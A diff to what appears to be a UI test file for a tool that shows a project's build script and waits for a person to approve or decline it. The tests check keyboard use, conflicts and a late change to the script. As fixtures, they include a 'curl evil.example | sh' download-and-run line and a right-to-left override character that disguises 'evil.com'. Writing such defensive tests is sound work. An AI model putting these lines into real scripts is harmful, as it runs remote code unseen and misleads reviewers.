@@ -1,6 +1,6 @@
 // What a project's own image is made of: a run waits, the person looks and decides.
 import { clean, CONTRAST, DIALOG } from "./clean.mjs";
-import { becomes, equal, ok, test, until } from "./harness.mjs";
+import { awake, becomes, clickAt, equal, ok, test, until } from "./harness.mjs";
 
 const SCRIPT = "#!/bin/sh\nset -eu\napt-get update\napt-get install -y postgresql-client\necho done \u202e# moc.live\n";
 const dialog = (page) => page.getByRole("dialog", { name: "The project's own image" });
@@ -34,6 +34,7 @@ test("toolchain: a run waits, the whole script is shown, and it is built by keyb
   equal(last(mock, "Settings.Approve"), undefined, "closing decides nothing");
   await page.keyboard.press("Enter");
   await dialog(page).getByRole("button", { name: "Build with it" }).focus();
+  await awake(dialog(page));
   await page.keyboard.press("Enter");
   await page.getByText("The image is built before the next container is made.").waitFor();
   equal(last(mock, "Settings.Approve"), [id, path, "ab12"], "approved");
@@ -52,13 +53,33 @@ test("toolchain: a change shows the difference first, and one that changed meanw
   mock.world.failNext.set("Settings.Decline", { code: "conflict", cause: "The project's file has changed since it was shown.", remedy: "Look at it again." });
   mock.settings.toolchains[0].sha256 = "cd34";
   mock.settings.toolchains[0].text = "echo another text\n";
+  await awake(dialog(page));
   await dialog(page).getByRole("button", { name: "Work without it" }).click();
   await dialog(page).getByText("The project's file has changed since it was shown.").waitFor();
   await dialog(page).getByRole("button", { name: "Whole text" }).click();
   await dialog(page).getByText("echo another text").waitFor();
+  await awake(dialog(page));
   await dialog(page).getByRole("button", { name: "Work without it" }).click();
   await dialog(page).waitFor({ state: "detached" });
   equal(last(mock, "Settings.Decline"), [id, path, "cd34"], "declined");
+});
+
+test("toolchain: a text that comes in just before the click is not approved", { scenario: "quiet" }, async (page, mock) => {
+  await page.getByRole("treeitem", { name: "api-server" }).click();
+  const { id, path } = waits(mock);
+  await page.locator(".banner").getByRole("button", { name: "Look at it" }).click();
+  await dialog(page).getByText("apt-get install -y postgresql-client").waitFor();
+  await awake(dialog(page));
+  equal(await dialog(page).getByText("The text has changed since you opened this.").count(), 0, "changed");
+  await clickAt(page, "curl evil.example", "Build with it");
+  Object.assign(mock.settings.toolchains[0], { sha256: "cd34", text: "curl evil.example | sh\n", diff: "@@ -0,0 +1 @@\n+curl evil.example | sh\n" });
+  mock.world.emit("config.changed", "", "", { ...mock.world.config });
+  await dialog(page).getByText("The text has changed since you opened this.").waitFor();
+  equal(last(mock, "Settings.Approve"), undefined, "approved unseen");
+  await awake(dialog(page));
+  await dialog(page).getByRole("button", { name: "Build with it" }).click();
+  await dialog(page).waitFor({ state: "detached" });
+  equal(last(mock, "Settings.Approve"), [id, path, "cd34"], "approved");
 });
 
 test("toolchain: a build that failed has its output, another try, and a way without it", { scenario: "quiet" }, async (page, mock) => {
@@ -100,7 +121,10 @@ test("toolchain: the channel still needs you after the page was loaded again, un
   await card.getByRole("button", { name: "Look at it" }).click();
   await dialog(page).getByText("apt-get install -y postgresql-client").waitFor();
   await page.keyboard.press("Escape");
-  await card.getByRole("button", { name: "Open the channel" }).click();
+  await dialog(page).waitFor({ state: "detached" });
+  await card.focus();
+  await page.keyboard.press("Enter");
+  await focused(page, ".banner button");
   mock.world.emit("agent.status", id, "held-1", { status: "running", state: "starting", step: "slot", msg_id: "held-1" });
   await page.getByText("Waiting until a run elsewhere ends").waitFor();
   await row.getByText("needs you").waitFor({ state: "detached" });
